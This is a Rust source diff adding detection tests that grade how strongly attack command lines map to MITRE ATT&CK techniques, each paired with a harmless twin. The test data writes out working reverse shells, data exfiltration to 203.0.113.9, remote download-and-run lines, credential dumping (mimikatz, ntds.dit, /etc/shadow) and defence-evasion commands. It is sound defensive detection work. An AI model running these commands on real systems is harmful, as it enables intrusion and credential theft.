@@ -410,6 +410,299 @@ const ORDINARY: &[&str] = &[
     "whoami",
 ];
 
+/// What `strength` the alert is shown with: none, a hint, weak or strong.
+fn strength(alert: &Alert) -> &'static str {
+    match shown(alert).first() {
+        None => "none",
+        Some(one) if one.strong => "strong",
+        Some(one) if one.hint => "hint",
+        Some(_) => "weak",
+    }
+}
+
+/// The technique, how strongly the first line shows it, and what a harmless second line is.
+const GRADED: &[(&str, &str, &str, &str, &str)] = &[
+    (
+        "T1003.002",
+        "weak",
+        "reg save hklm\\system C:\\temp\\sys.hiv",
+        "none",
+        "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\nginx c:\\b.reg",
+    ),
+    (
+        "T1555.005",
+        "weak",
+        "cmd /c for /r C:\\ %f in (*.kdbx) do copy %f \\\\203.0.113.9\\x",
+        "none",
+        "KeePass.exe C:\\Users\\dana\\vault.kdbx",
+    ),
+    (
+        "T1562.001",
+        "strong",
+        "taskkill /f /im MsMpEng.exe",
+        "none",
+        "tasklist /fi \"imagename eq MsMpEng.exe\"",
+    ),
+    (
+        "T1112",
+        "strong",
+        "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" /v UseLogonCredential /t REG_DWORD /d 1",
+        "none",
+        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0",
+    ),
+    (
+        "T1053.002",
+        "weak",
+        "echo '/tmp/.x' | at now + 1 minute",
+        "none",
+        "echo /usr/local/bin/report | at 22:00",
+    ),
+    (
+        "T1543.002",
+        "weak",
+        "tee /etc/systemd/system/upd.service",
+        "none",
+        "systemctl cat nginx.service",
+    ),
+    (
+        "T1204.002",
+        "strong",
+        "wscript.exe C:\\Users\\dana\\Downloads\\Invoice.pdf.js",
+        "none",
+        "cscript.exe //nologo C:\\Scripts\\inventory.vbs",
+    ),
+    (
+        "T1204.002",
+        "weak",
+        "wscript.exe C:\\Users\\dana\\Downloads\\setup.js",
+        "none",
+        "node C:\\Users\\dana\\Downloads\\setup.js",
+    ),
+    (
+        "T1098.006",
+        "weak",
+        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default",
+        "none",
+        "kubectl create clusterrolebinding x --clusterrole=view --user=dana",
+    ),
+    (
+        "T1098.001",
+        "weak",
+        "aws iam create-access-key --user-name admin",
+        "none",
+        "aws iam list-access-keys --user-name admin",
+    ),
+    (
+        "T1562.008",
+        "strong",
+        "aws cloudtrail stop-logging --name org",
+        "none",
+        "aws cloudtrail get-trail-status --name org",
+    ),
+    (
+        "T1486",
+        "weak",
+        "openssl enc -aes-256-cbc -in /data/a -out /data/a.locked -k x",
+        "none",
+        "openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc",
+    ),
+    (
+        "T1110.001",
+        "strong",
+        "hydra -l root -P rockyou.txt ssh://10.0.0.8",
+        "none",
+        "python3 train.py hydra.run.dir=/srv/runs",
+    ),
+    (
+        "T1056.002",
+        "strong",
+        "osascript -e 'display dialog \"Enter password\" default answer \"\" with hidden answer'",
+        "none",
+        "osascript -e 'display dialog \"Backup done\"'",
+    ),
+    (
+        "T1543.001",
+        "weak",
+        "launchctl load /Users/dana/Library/LaunchAgents/com.x.plist",
+        "none",
+        "launchctl load /Users/dana/Library/LaunchAgents/homebrew.mxcl.redis.plist",
+    ),
+    (
+        "T1048.003",
+        "strong",
+        "powershell -c Compress-Archive C:\\Finance C:\\Users\\Public\\f.zip; Invoke-RestMethod -Method Post -InFile C:\\Users\\Public\\f.zip http://203.0.113.9/u",
+        "none",
+        "powershell -c Compress-Archive C:\\b C:\\b.zip; Invoke-RestMethod -Method Post -InFile C:\\b.zip http://10.0.0.9/u",
+    ),
+    (
+        "T1105",
+        "weak",
+        "curl -o C:\\Users\\Public\\a.exe http://203.0.113.9/a.exe",
+        "none",
+        "curl -o C:\\build\\a.exe https://releases.corp.example/a.exe",
+    ),
+    (
+        "T1059.004",
+        "strong",
+        "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
+        "none",
+        "bash -c 'exec 3<>/dev/tcp/db-1/5432 && echo open'",
+    ),
+    (
+        "T1059.004",
+        "strong",
+        "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        "none",
+        "php -r 'var_dump(fsockopen(\"db-1\", 5432));'",
+    ),
+    (
+        "T1059.004",
+        "strong",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
+        "none",
+        "python3 -c 'import socket;print(socket.gethostname())'",
+    ),
+    (
+        "T1059.004",
+        "weak",
+        "cat /srv/a > /dev/tcp/203.0.113.9/99",
+        "none",
+        "cat /srv/a > /dev/tcp/10.0.0.9/99",
+    ),
+    (
+        "T1218.011",
+        "weak",
+        "rundll32.exe davclnt.dll,DavSetCookie 203.0.113.9@80 http://203.0.113.9/a",
+        "hint",
+        "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie fileserver http://fileserver/share",
+    ),
+    (
+        "T1098.007",
+        "weak",
+        "usermod -aG sudo dana",
+        "hint",
+        "usermod -aG docker dana",
+    ),
+    (
+        "T1021.002",
+        "weak",
+        "psexec \\\\srv-3 -s cmd.exe",
+        "hint",
+        "psexec \\\\srv-3 ipconfig",
+    ),
+    (
+        "T1567.002",
+        "weak",
+        "rclone.exe copy C:\\Finance mega:out --transfers 16",
+        "hint",
+        "rclone sync /data s3:corp-backup --config /etc/rclone.conf",
+    ),
+    (
+        "T1560.001",
+        "weak",
+        "rar.exe a -hpS3cret c:\\t\\o.rar D:\\fin",
+        "hint",
+        "7z.exe a -pS3cret C:\\backup\\x.7z C:\\data",
+    ),
+    (
+        "T1572",
+        "weak",
+        "socat TCP-LISTEN:8080,fork TCP:203.0.113.9:443",
+        "hint",
+        "socat TCP-LISTEN:8080,fork TCP:web-1:80",
+    ),
+    (
+        "T1105",
+        "weak",
+        "curl https://bad.example/sh.rustup.rs | sh",
+        "hint",
+        "sh -c 'curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh'",
+    ),
+    (
+        "T1105",
+        "weak",
+        "curl https://sh.rustup.rs.bad.example/i | sh",
+        "hint",
+        "bash -c 'curl -sSL https://install.python-poetry.org | python3 -'",
+    ),
+    (
+        "T1059.001",
+        "weak",
+        "powershell iex ((New-Object Net.WebClient).DownloadString('https://bad.example/install.ps1'))",
+        "none",
+        "powershell Get-Help iex",
+    ),
+    (
+        "T1105",
+        "weak",
+        "curl https://sh.rustup.rs | sh; curl https://bad.example/i | sh",
+        "hint",
+        "powershell.exe iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
+    ),
+];
+
+#[test]
+fn attack_is_graded_apart_from_its_twin() {
+    let mut faults = Vec::new();
+    for (technique, expected, attack, twin_expected, twin) in GRADED {
+        let (attack, twin) = (command(attack), command(twin));
+        let graded = (strength(&attack), strength(&twin));
+        if graded != (*expected, *twin_expected) || !techniques(&attack).contains(technique) {
+            let values = attack
+                .details
+                .iter()
+                .chain(&twin.details)
+                .map(|one| &one.value);
+            faults.push(format!(
+                "{graded:?} {:?} {:?}",
+                techniques(&attack),
+                values.collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+#[test]
+fn word_that_a_reader_is_given_is_no_act() {
+    for line in [
+        "notepad.exe C:\\docs\\mimikatz-detection.txt",
+        "chrome.exe https://attack.mitre.org/software/S0002/ mimikatz",
+        "git clone https://github.com/gentilkiwi/mimikatz.git",
+        "grep -ri 'vssadmin delete shadows' ./sigma",
+        "grep -r xmrig /etc",
+        "sudo rg 'sekurlsa::' /srv/rules | less",
+        "bash -c \"grep -ri 'wevtutil cl Security' ./sigma\"",
+        "find . -name '*.yml' | xargs grep xmrig",
+        "curl -s https://attack.mitre.org/software/S0002/mimikatz",
+        "vim /srv/rules/secretsdump-ntds.yml",
+    ] {
+        assert_eq!(strength(&command(line)), "none", "{line}");
+    }
+    for (line, process) in [
+        ("-ri 'vssadmin delete shadows' ./sigma", "/usr/bin/grep"),
+        ("grep -r xmrig /etc", "bash"),
+    ] {
+        let mut apart = command(line);
+        apart.indicators.push(nightshift_alert::Indicator::new(
+            nightshift_alert::IndicatorKind::Process,
+            process,
+            nightshift_alert::Role::Related,
+        ));
+        assert_eq!(strength(&apart), "none", "{process} {line}");
+    }
+    for line in [
+        "grep x y; mimikatz.exe sekurlsa::logonpasswords",
+        "cat /tmp/x.so > /etc/ld.so.preload",
+        "/tmp/grep sekurlsa::logonpasswords",
+        "cat a.b64 | base64 -d | sh",
+        "cmd /c type C:\\Windows\\NTDS\\ntds.dit > c:\\t\\n",
+        "cat /proc/1/root/etc/shadow",
+    ] {
+        assert_eq!(strength(&command(line)), "strong", "{line}");
+    }
+}
+
 #[test]
 fn ordinary_commands_show_no_technique() {
     let hit: Vec<String> = ORDINARY
@@ -429,8 +722,17 @@ fn parent_makes_a_command_a_web_shell() {
         "nginx",
         "/usr/sbin/apache2",
     ] {
-        let alert = with(&[(CommandLine, "sh -c id"), (ParentProcess, parent)]);
-        assert!(techniques(&alert).contains(&"T1505.003"), "{parent}");
+        for line in [
+            "sh -c 'id; uname -a'",
+            "cmd.exe /c whoami /priv",
+            "sh -c 'cat /etc/passwd'",
+        ] {
+            let alert = with(&[(CommandLine, line), (ParentProcess, parent)]);
+            assert_eq!(strength(&alert), "strong", "{parent}");
+            assert!(techniques(&alert).contains(&"T1505.003"), "{parent}");
+        }
+        let lone = with(&[(CommandLine, "sh -c 'id -u'"), (ParentProcess, parent)]);
+        assert_eq!(strength(&lone), "hint", "{parent}");
     }
     let mail = with(&[
         (CommandLine, "sh -c '/usr/sbin/sendmail -t -i'"),
